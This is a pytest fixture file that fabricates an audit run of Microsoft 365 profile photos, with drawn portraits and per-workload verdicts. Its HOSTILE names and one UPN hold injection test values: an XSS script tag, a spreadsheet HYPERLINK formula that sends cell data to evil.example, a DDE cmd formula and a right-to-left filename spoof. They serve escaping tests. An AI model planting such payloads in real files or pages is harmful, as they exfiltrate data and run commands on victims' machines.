"""A fabricated run: drawn portraits, hostile names, every status and verdict."""

from __future__ import annotations

import hashlib
import io
import json
import random
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

import pandas as pd
import pytest
from PIL import Image, ImageDraw, ImageFilter, ImageOps

from auditor.model import USER_COLUMNS, VERDICT_COLUMNS
from auditor.runs.view import RunView
from tests.report.browsing import browser, visit  # noqa: F401 - fixtures for every test here

Fabricate = Callable[..., RunView]

STARTED = datetime(2026, 11, 20, 9, 58, 3, tzinfo=UTC)
HOSTILE = (
    "<script>alert(document.domain)</script>",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "Anna \u202egnp.exe\u202c Schmidt",
    "Quo\"te's & <b>bold</b> </article></li>",
    "Maximiliana-Theodora Freifrau von und zu Hohen" + "lohe-Waldenburg-Schillingsfürst" * 6,
    "עבד אל-רחמן بن محمد",
    "\tTabbed\r\nNewline\x00Null",
    "𝕱𝖆𝖓𝖈𝖞 z̸̢̛̫͖a̷̧̛l̴̡̛g̸̨̛o 👩🏽‍💻",
)
NAMES = (
    "Amara Okafor", "Björn Lindqvist", "Chiara Esposito", "Daniel Kowalski", "Elif Yılmaz", "Fatima Zahra",
    "Grace Nakamura", "Henrik Sørensen", "Ioana Popescu", "Javier Morales", "Katarzyna Wójcik", "Liam O’Connor",
    "Mei-Ling Chen", "Nikolai Petrov", "Olumide Adeyemi", "Priya Raghunathan", "Quentin Dubois", "Rosa Jiménez",
    "Søren Kierulf", "Tomoko Ishikawa", "Úrsula Guðmundsdóttir", "Václav Dvořák", "Wanjiru Kamau",
    "Ximena Castillo", "Yusuf Rahman", "Zsófia Nagy", "田中 美咲", "Δημήτρης Παπαδόπουλος", "Наталья Смирнова",
)  # fmt: skip
DEPARTMENTS = ("Finance", "Sales", "Engineering", "People & Culture", "Legal", "Operations", "Marketing", "")

SCENARIOS: dict[str, dict[str, tuple[str, str, str, str]]] = {
    # workload: (status, verdict, which picture, reason or cause)
    "step": {},
    "stale": {"sharepoint": ("photo", "mismatch", "other", "sharepoint_detached")},
    "never_visited": {"sharepoint": ("absent", "missing", "", "sharepoint_never_visited")},
    "silhouette": {"sharepoint": ("placeholder", "placeholder", "grey", "sharepoint_placeholder_state")},
    "crop": {"yammer": ("photo", "variant", "crop", "edited_copy")},
    "own": {
        "yammer": ("photo", "mismatch", "third", "engage_own_photo"),
        "exchange": ("photo", "mismatch", "other", "unexplained"),
    },
    "garbage": {"exchange": ("unreadable", "broken", "", "unexplained")},
    "leaver": {
        "entra": ("absent", "no_photo", "", ""),
        "exchange": ("photo", "unexpected", "self", "removed_at_reference"),
        "sharepoint": ("absent", "no_photo", "", ""),
        "yammer": ("not_provisioned", "not_applicable", "", ""),
    },
    "refused": {
        "exchange": ("unknown", "unchecked", "", "ews_refused"),
        "sharepoint": ("absent", "missing", "", "sharepoint_never_visited"),
        "yammer": ("not_provisioned", "not_applicable", "", ""),
    },
    "tiny": {"exchange": ("photo", "variant", "tiny", "low_resolution_directory_copy")},
    "without": {
        "entra": ("absent", "no_photo", "", ""),
        "exchange": ("absent", "no_photo", "", ""),
        "sharepoint": ("placeholder", "no_photo", "", ""),
        "yammer": ("absent", "no_photo", "", ""),
    },
    "throttled": {"yammer": ("unknown", "unchecked", "", "throttled")},
}  # fmt: skip
CAUSES = {
    "sharepoint_detached": (
        "SPS-PictureExchangeSyncState is 0 although the user has a mailbox, and the picture is of 2021.",
        "An administrator deletes the picture in the SharePoint user profile and sets "
        "`SPS-PictureExchangeSyncState` to `1`; the user then opens any SharePoint page.",
    ),
    "sharepoint_never_visited": (
        "No SPS-PictureTimestamp, no placeholder state and no sync state are set.",
        "The user opens `https://contoso-my.sharepoint.com/person.aspx` once; the copy follows in 24 to 72 hours.",
    ),
    "sharepoint_placeholder_state": (
        "SPS-PicturePlaceholderState is 1 though PictureURL names a file.",
        "`Set-PnPUserProfileProperty -Account UPN -PropertyName SPS-PicturePlaceholderState -Value 0`, once it is "
        "certain that the file exists.",
    ),
    "engage_own_photo": (
        "Engage serves a picture of its own, set there.",
        "The user saves the photo again in the Microsoft 365 profile.",
    ),
    "removed_at_reference": (
        "The reference holds no photo; this copy is left.",
        "Delete the photo here, too: `Remove-UserPhoto -Identity UPN`.",
    ),
    "low_resolution_directory_copy": (
        "96 × 96 pixels although 648 × 648 were asked for.",
        "Upload a picture of at least 648 pixels through Microsoft Graph.",
    ),
    "edited_copy": ("The same photograph, cropped to the middle.", "Nothing has to be mended if the crop is meant."),
    "unexplained": ("", "Set the photo again through Microsoft Graph and audit after 72 hours."),
}


def portrait(seed: int, side: int = 240) -> Image.Image:
    """A drawn head and shoulders; two seeds differ as two people's photos do."""
    rng = random.Random(seed)
    tone = [tuple(rng.randrange(30, 240) for _ in range(3)) for _ in range(4)]
    skin = rng.choice([(245, 210, 185), (222, 170, 130), (160, 105, 70), (95, 60, 42), (236, 190, 155)])
    picture = ImageOps.colorize(
        Image.linear_gradient("L").resize((side, side)).rotate(rng.choice([0, 90, 180])), tone[0], tone[1]
    )
    draw = ImageDraw.Draw(picture)
    middle, head = side * rng.uniform(0.42, 0.58), side * rng.uniform(0.17, 0.23)
    top = side * rng.uniform(0.2, 0.3)
    draw.ellipse((middle - 2.1 * head, side * 0.68, middle + 2.1 * head, side * 1.5), fill=tone[2])
    draw.ellipse((middle - 1.2 * head, top - head * 0.5, middle + 1.2 * head, top + 1.8 * head), fill=tone[3])
    draw.ellipse((middle - head, top, middle + head, top + 2.5 * head), fill=skin)
    for eye in (-0.4, 0.4):
        x, y = middle + eye * head, top + head
        draw.ellipse((x - head / 9, y - head / 9, x + head / 9, y + head / 9), fill=(30, 25, 25))
    draw.arc((middle - head / 2, top + head, middle + head / 2, top + 2 * head), 20, 160, fill=(120, 40, 40), width=3)
    return picture.filter(ImageFilter.GaussianBlur(0.6))


def jpeg(picture: Image.Image) -> bytes:
    out = io.BytesIO()
    picture.convert("RGB").save(out, "JPEG", quality=88)
    return out.getvalue()


def changed(picture: Image.Image, how: str, other: Image.Image, third: Image.Image) -> Image.Image:
    if how == "crop":
        width, height = picture.size
        return picture.crop((width // 6, height // 6, width * 5 // 6, height * 5 // 6))
    if how == "tiny":
        return picture.resize((48, 48))
    if how == "grey":
        blank = Image.new("RGB", (96, 96), (226, 226, 230))
        draw = ImageDraw.Draw(blank)
        draw.ellipse((32, 20, 64, 54), fill=(170, 170, 180))
        draw.ellipse((16, 58, 80, 130), fill=(170, 170, 180))
        return blank
    return {"other": other, "third": third}.get(how, picture)


@pytest.fixture(scope="session")
def fabricate(tmp_path_factory: pytest.TempPathFactory) -> Fabricate:
    """`fabricate(users=…, drifting=…)`: a run of that many users."""

    def make(
        users: int = 60,
        *,
        scenarios: Sequence[str] = tuple(SCENARIOS),
        hostile: Sequence[str] = HOSTILE,
        portraits: Sequence[Image.Image] = (),
        distinct: int = 24,
        keep: bool = True,
        manifest: dict[str, Any] | None = None,
    ) -> RunView:
        photos = tmp_path_factory.mktemp("run") / "photos"
        faces = list(portraits) or [portrait(seed) for seed in range(min(users, distinct))]
        kept: dict[tuple[int, str], tuple[str, int, int, int]] = {}

        def keeping(face: int, how: str) -> tuple[str, int, int, int]:
            face %= len(faces)
            if (face, how) not in kept:
                others = faces[(face + 1) % len(faces)], faces[(face + 2) % len(faces)]
                picture = changed(faces[face], how, *others)
                data = jpeg(picture)
                digest = hashlib.sha256(data).hexdigest()
                if keep:
                    path = photos / digest[:2] / f"{digest}.jpg"
                    path.parent.mkdir(parents=True, exist_ok=True)
                    path.write_bytes(data)
                kept[face, how] = (digest, *picture.size, len(data))
            return kept[face, how]

        people, verdicts = [], []
        for number in range(users):
            name = hostile[number] if number < len(hostile) else NAMES[number % len(NAMES)]
            user_id = f"{hashlib.md5(str(number).encode()).hexdigest()[:8]}-0000-4000-8000-{number:012d}"
            upn = f"user{number}@{'contoso.com' if number % 3 else 'fabrikam.example'}"
            if number < len(hostile) and name.startswith("="):
                upn = "=cmd|' /C calc'!A0@contoso.com"
            people.append(
                {
                    "user_id": user_id, "upn": upn, "mail": upn, "display_name": name, "user_type": "Member",
                    "enabled": True, "licensed": True, "department": DEPARTMENTS[number * 7 % len(DEPARTMENTS)],
                    "synced": number % 4 == 0, "exchange_plan": True, "addresses": upn.lower(),
                }
            )  # fmt: skip
            # The hostile names must drift to be on the page.
            scenario = (
                scenarios[1 + number % 9]
                if number < len(hostile) and len(scenarios) > 9
                else (scenarios[number % len(scenarios)])
            )
            for place, workload in enumerate(("entra", "exchange", "sharepoint", "yammer")):
                status, verdict, how, why = SCENARIOS[scenario].get(
                    workload, ("photo", "reference" if workload == "entra" else "match", "self", "")
                )
                evidence, fix = CAUSES.get(why, ("", ""))
                digest, width, height, size = keeping(number, how) if how else ("", 0, 0, 0)
                sharepoint = workload == "sharepoint"
                row = {
                    "user_id": user_id, "upn": upn, "workload": workload, "status": status, "verdict": verdict,
                    "reference": "entra", "reason": why if status == "unknown" else "",
                    "detail": "The service refused this one mailbox." if why == "ews_refused" else "",
                    "kind": "crop" if how == "crop" else "",
                    "distance": {"mismatch": 640.25 + number, "variant": 41.5}.get(verdict, float("nan")),
                    "note": "", "cause": why if why in CAUSES else "", "evidence": evidence, "fix": fix, "accepted": "",
                    "causes": json.dumps(
                        [{"cause": why, "confidence": "likely", "evidence": evidence}] if why in CAUSES else []
                    ),
                    "picture": "shown" if sharepoint else "only", "way": "graph_batch" if not place else "userphoto",
                    "observed_at": STARTED + timedelta(seconds=number),
                    "read_at": STARTED + timedelta(seconds=number), "read_in": "", "sha256": digest,
                    "format": "JPEG" if digest else "", "width": width, "height": height, "size": size,
                    "signals": json.dumps({"SPS-PictureTimestamp": "63799442436", "SPS-PicturePlaceholderState": "0"})
                    if sharepoint and digest else "{}",
                }  # fmt: skip
                verdicts.append(row)
        told: dict[str, Any] = {
            "run_id": "20261120T095803Z-7f3a", "version": "0.1.0", "recipe": "r1",
            "error_rates": [
                {"what": "strangers called the same", "where": "pairs of portraits", "errors": 0, "trials": 51_314,
                 "bound": 5.8e-5}
            ],
            "tenant": {"id": "3f1c2d8e-7c1b-4f0e-9a55-2b7b6f3f9c01", "name": "Contoso Ltd", "domain": "contoso.com"},
            "asked_by": "auditor@contoso.com", "started": "2026-11-20T09:58:03Z",
            "finished": "2026-11-20T10:01:27Z", "complete": True, "incomplete_because": [], "reference": "entra",
            "workloads": {
                "entra": {"way": "graph_batch", "requests": 31, "seconds": 4.2, "note": ""},
                "exchange": {"way": "ews_rest", "requests": 170, "seconds": 41.0, "note": ""},
                "sharepoint": {"way": "userphoto", "requests": 512, "seconds": 96.5, "note": "one satellite geo"},
                "yammer": {"way": "users_list", "requests": 6, "seconds": 12.9, "note": ""},
            },
            "workloads_off": {},
            "scope": {
                "directory": users + 30, "in_scope": users,
                "excluded": {"guests": 12, "external-members": 2, "shared": 4, "rooms": 3, "disabled": 5,
                             "unlicensed": 4},
                "include": [], "only": "",
            },
            "settings": [
                {"name": "tenant_id", "value": "3f1c2d8e-7c1b-4f0e-9a55-2b7b6f3f9c01", "origin": "photo-auditor.toml"},
                {"name": "workloads.sharepoint.origin", "value": "https://contoso.sharepoint.com", "origin": "default"},
                {"name": "photos", "value": "drift", "origin": "flag"},
            ],
            "photos": "drift",
            "tenant_facts": [
                {"cause": "frontline_licence", "sentence": "Exchange refuses every user with a frontline licence "
                 "and no other.", "fix": "Read these users through Microsoft Graph alone."}
            ],
        }  # fmt: skip
        told |= manifest or {}
        return RunView(
            told,
            pd.DataFrame(people, columns=[column.name for column in USER_COLUMNS]),
            pd.DataFrame(verdicts, columns=[column.name for column in VERDICT_COLUMNS]),
            photos,
        )

    return make
